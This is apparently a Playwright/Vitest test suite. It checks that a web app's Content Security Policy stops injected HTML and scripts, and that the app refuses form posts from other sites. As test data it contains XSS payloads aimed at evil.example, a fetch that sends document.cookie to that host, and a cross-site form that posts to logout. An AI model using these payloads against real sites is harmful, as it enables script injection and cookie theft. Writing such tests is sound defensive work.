import { beforeAll, expect, test } from "vitest";
import { type App, sharedApp } from "#tests/support/app.ts";
import { allowTroubles, openPage, waitForHydration } from "#tests/support/clients/browser.ts";
import { makeProduct, makeSeller, signedIn } from "#tests/support/make.ts";
import { everyNth, oneScript } from "#tests/support/run/ways.ts";
import { until } from "#tests/support/until.ts";

let app: App;

beforeAll(async () => {
  app = await sharedApp();
});

/** What injected HTML would try, and the directive that stops it. */
const ATTACKS: Record<string, string> = {
  "script-src-attr": `<img src="data:," onerror="window.ran = true">`,
  "script-src-elem": `<iframe srcdoc="<script>parent.ran = true</script>"></iframe>`,
  "base-uri": `<base href="https://evil.example/">`,
  "frame-src": `<iframe src="https://evil.example/"></iframe>`,
  "object-src": `<object data="https://evil.example/x.swf"></object>`,
  "form-action": `<form id="lure" method="post" action="https://evil.example/"></form>`,
};

test.each(everyNth(2, ["/login", "/dashboard", "/settings?tab=seguranca"]))(
  "HTML injected into %s runs nothing and sends nothing anywhere",
  async (path) => {
    allowTroubles(/Content Security Policy|evil\.example/);
    const seller = await makeSeller();
    await makeProduct(seller);
    const { Cookie } = path.startsWith("/login") ? { Cookie: "" } : await signedIn(seller);
    const page = await openPage({ url: app.url, ...(Cookie ? { cookie: Cookie } : {}) });
    const outside: string[] = [];
    // Only what the browser would send is requested.
    await page.route(/evil\.example/, (route) => {
      outside.push(route.request().url());
      return route.fulfill({ contentType: "text/javascript", body: "window.ran = true" });
    });
    await page.goto(path);
    await waitForHydration(page);
    await page.evaluate((attacks) => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
      for (const html of attacks) document.body.insertAdjacentHTML("beforeend", html);
      const inline = document.createElement("script");
      inline.textContent = "window.ran = true";
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      document.body.append(inline, foreign);
      document.querySelector<HTMLFormElement>("#lure")!.submit();
      void fetch("https://evil.example/", { method: "POST", body: document.cookie }).catch(() => {});
    }, Object.values(ATTACKS));
    const expected = [...Object.keys(ATTACKS), "connect-src"];
    await until(async () => {
      const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
      return expected.every((directive) => seen.includes(directive));
    });
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
    expect(outside).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(path.split("?")[0]);
  },
);

test("a refusal of the policy on a page fails the test it happens in, unless that means to meet it", async () => {
  const page = await openPage({ url: app.url });
  const violations: string[] = [];
  page.on("console", (message) => void (message.type() === "error" && violations.push(message.text())));
  allowTroubles(/Content Security Policy/);
  await page.goto("/login");
  await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="1">`));
  await until(() => violations.some((text) => text.includes("Content Security Policy")));
});

for (const javaScript of oneScript(true)) {
  test(`the redirect to the identity provider and back is allowed (JavaScript: ${javaScript})`, async () => {
    const page = await openPage({ url: app.url, javaScript });
    await page.goto("/login");
    await waitForHydration(page);
    await page.getByRole("button", { name: "Continuar com o provedor de identidade" }).click();
    await page.getByRole("button", { name: "Conta nova" }).click();
    await page.waitForURL("**/dashboard");
  });
}

test("a page that another site's form was sent to states it", async () => {
  allowTroubles(/status of 403/);
  const page = await openPage({ url: app.url });
  // Another host of this machine is another site to the browser.
  await page.route("http://evil.localhost/", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<form method="post" action="${app.url}/logout"><button>Ganhe um prêmio</button></form>`,
    }),
  );
  await page.goto("http://evil.localhost/");
  await page.getByRole("button").click();
  await page.getByRole("heading", { name: "Pedido recusado" }).waitFor();
  await page.getByText("Este pedido veio de outro site e foi recusado").waitFor();
});
